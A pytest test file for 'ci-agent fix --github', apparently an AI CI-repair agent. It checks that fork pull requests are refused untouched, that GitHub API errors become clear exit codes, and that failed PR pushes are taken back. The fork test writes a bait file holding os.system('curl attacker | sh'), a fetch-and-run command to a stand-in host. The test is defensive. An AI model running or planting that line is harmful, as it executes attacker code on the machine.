"""`ci-agent fix --github` refusing and failing well: fork pull requests are refused without
touching their code; GitHub API errors become exit codes and sentences naming what to grant."""

from __future__ import annotations

import pytest

from ci_agent.errors import ExitCode
from tests.fakes.github_fake import Reply, error, forbidden, rate_limited_429
from tests.github_scenarios.harness import (
    FIX_BRANCH,
    USER_TOKEN,
    ActionRun,
    CiRun,
    World,
    refuse_rewinds,
)
from tests.github_scenarios.steps import (
    answer,
    assert_outputs,
    model_calls,
    the_status_comment,
)
from tests.scenarios.sample_repos import git

# -- fork pull requests ------------------------------------------------------------------------


def test_a_fork_pull_request_is_refused_without_touching_its_code(world: World) -> None:
    """workflow_run of a PR from a fork: `pull_requests` is empty and `head_repository` is the
    fork. Its branch is even called `main`. ci-agent must say so and stop: no checkout or fetch of
    the fork's commit, no model call, nothing pushed, nothing posted."""
    fork = world.checkout("main", "fork-clone")
    (fork / "shop" / "evil.py").write_text("import os\nos.system('curl attacker | sh')\n")
    git(fork, "add", "-A")
    git(fork, "commit", "-q", "-m", "innocent change")
    fork_sha = git(fork, "rev-parse", "HEAD").strip()
    world.github.add_ci_run(9001, head_branch="main", head_sha=fork_sha, conclusion="failure",
                            log=b"2026-12-02T16:00:00.0000000Z FAILED tests/test_ratings.py\n",
                            event="pull_request", pull_requests=[])

    run = world.after_ci(CiRun(9001, "main", fork_sha, "failure", "", 0), head_repository="evil/app",
                         actor="mallory")

    assert run.exit_code == 0, str(run)
    assert_outputs(run, "refused")
    assert "fork" in (run.stdout + run.stderr + run.summary).lower()
    assert model_calls(world) == 0
    assert world.origin_branches() == ["main"] and world.github.pulls == {}
    assert world.github.comments == {}
    has_it = git(run.workspace, "cat-file", "-e", f"{fork_sha}^{{commit}}", check=False)
    missing = git(run.workspace, "rev-parse", "--verify", "-q", f"{fork_sha}^{{commit}}", check=False)
    assert has_it == "" and missing.strip() == "", "the fork's commit was fetched into the workspace"
    assert not world.github.requests_to("GET", r"/repos/octo/app/actions/jobs/\d+/logs")


# -- GitHub API errors -----------------------------------------------------------------------

ERRORS = {
    # the token lacks `actions: read`: nothing can be fetched, the model is never asked
    "403-jobs": (forbidden("actions=read"), r"/actions/runs/\d+/jobs$", "GET", ExitCode.EXTERNAL_SERVICE,
                 "actions: read", 0),
    "404-run": (error(404, "Not Found"), r"/actions/runs/\d+/jobs$", "GET", ExitCode.EXTERNAL_SERVICE,
                "found nothing", 0),
    # the fix is pushed but the PR cannot be opened: the permission to grant is named
    "403-pulls": (forbidden("pull_requests=write"), r"/pulls$", "POST", ExitCode.EXTERNAL_SERVICE,
                  "pull-requests: write", 1),
    "5xx-pulls": (error(502, "Server Error", {"retry-after": "0"}), r"/pulls$", "POST",
                  ExitCode.EXTERNAL_SERVICE, "try again later", 1),
}


@pytest.mark.parametrize("case", sorted(ERRORS))
def test_api_errors_become_exit_codes_and_sentences(world: World, case: str) -> None:
    reply, path, method, code, words, calls = ERRORS[case]
    world.github.inject(reply, path=path, method=method, times=50)
    answer(world, "broken", "fix")

    run = world.after_ci(world.ci("main"))

    assert run.exit_code == code, str(run)
    assert words in run.stderr + run.stdout + run.summary, str(run)
    assert model_calls(world) == calls
    assert "Traceback" not in run.stderr


def test_a_rate_limit_is_waited_out(world: World, forge_waits: list[float]) -> None:
    world.github.inject(rate_limited_429("7"), path=r"/issues/\d+/comments$", method="POST", times=1)
    answer(world, "broken", "fix")

    run = world.after_ci(world.ci("main"))

    assert run.exit_code == 0, str(run)
    assert 7.0 in forge_waits, "retry-after honoured"
    the_status_comment(world, world.fix_pull()["number"])


def test_an_api_that_keeps_failing_is_retried_then_exit_5(world: World, forge_waits: list[float]) -> None:
    world.github.inject(Reply(503, {"message": "Service Unavailable"}), path=r"/actions/runs/\d+/jobs$",
                        times=100)
    run = world.after_ci(world.ci("main"))
    assert run.exit_code == ExitCode.EXTERNAL_SERVICE, str(run)
    assert len(world.github.requests_to("GET", r"/repos/octo/app/actions/runs/\d+/jobs")) > 1
    assert forge_waits, "waited between attempts"
    assert model_calls(world) == 0


def refused_its_pr(world: World) -> tuple[CiRun, ActionRun]:
    """The job after a red CI run (its run id 8080) pushes attempt 1, then cannot open the PR
    (403: pull-requests: write missing): it fails. Returns the CI run and that job."""
    world.inputs["github_token"] = USER_TOKEN
    world.github.inject(forbidden("pull_requests=write"), path=r"/pulls$", method="POST", times=1)
    answer(world, "broken", "fix")
    red = world.ci("main")
    first = world.after_ci(red, run_id=8080)
    assert first.exit_code == ExitCode.EXTERNAL_SERVICE, str(first)
    return red, first


def test_a_refused_pr_takes_the_push_back_and_a_rerun_makes_the_attempt_again(world: World) -> None:
    """No fix branch may stay on origin without its PR: the push is taken back (our commit only).
    Once the permission is granted, a rerun makes the attempt again and opens the PR."""
    red, first = refused_its_pr(world)
    assert first.outputs["outcome"] == "error", "later steps can tell the step failed"
    assert "pull-requests: write" in first.stderr + first.stdout and "taken back" in first.stderr, str(first)
    assert world.origin_branches() == ["main"] and world.github.pulls == {}

    answer(world, "broken", "fix")
    rerun = world.after_ci(red, run_id=8080, run_attempt=2)

    assert rerun.exit_code == 0 and rerun.outputs["outcome"] == "committed", str(rerun)
    assert len(world.pulls_from(FIX_BRANCH)) == 1
    assert model_calls(world) == 2, "the taken-back attempt is made again"
    assert world.trailers(world.origin_tip(FIX_BRANCH) or "").get("CI-Agent-Attempt") == ["1"]


def test_an_attempt_left_without_its_pr_gets_it_from_the_rerun(world: World) -> None:
    """When even taking the push back fails (here origin refuses to delete or rewind branches, as
    a protected-branch rule or an outage would), the attempt stays orphaned; the rerun opens its
    PR from the pushed commit without asking the model again."""
    refuse_rewinds(world)
    red, first = refused_its_pr(world)
    assert "a rerun opens" in first.stderr, str(first)
    assert FIX_BRANCH in world.origin_branches() and world.github.pulls == {}
    pushed = world.origin_tip(FIX_BRANCH)

    rerun = world.after_ci(red, run_id=8080, run_attempt=2)

    assert rerun.exit_code == 0, str(rerun)
    (pull,) = world.pulls_from(FIX_BRANCH)
    assert model_calls(world) == 1, "the pushed attempt is reused, not asked for again"
    assert world.origin_tip(FIX_BRANCH) == pushed, "nothing new pushed"
    assert rerun.outputs["outcome"] == "committed" and rerun.outputs["attempt"] == "1", str(rerun)
    assert pull["draft"] is True and "ci-agent" in pull["labels"]
    assert "Attempt 1" in pull["body"] and "CI-Agent-Attempt: 1" in pull["body"], "the pushed commit"

    green = world.after_ci(world.ci(FIX_BRANCH))
    assert green.outputs["outcome"] == "fixed", str(green)
    assert world.fix_pull()["draft"] is False


def test_a_closed_fix_pr_is_not_reopened_by_a_rerun(world: World) -> None:
    """A person closed the fix PR of a pushed attempt: that is a decision, not a lost PR."""
    world.inputs["github_token"] = USER_TOKEN
    answer(world, "broken", "fix")
    red = world.ci("main")
    assert world.after_ci(red).exit_code == 0
    (pull,) = world.pulls_from(FIX_BRANCH)
    world.github.pulls[pull["number"]]["state"] = "closed"

    again = world.after_ci(world.ci("main"))

    assert again.exit_code == 0 and again.outputs["outcome"] == "skipped", str(again)
    assert "closed or merged" in again.stdout
    assert len(world.pulls_from(FIX_BRANCH)) == 1 and model_calls(world) == 1
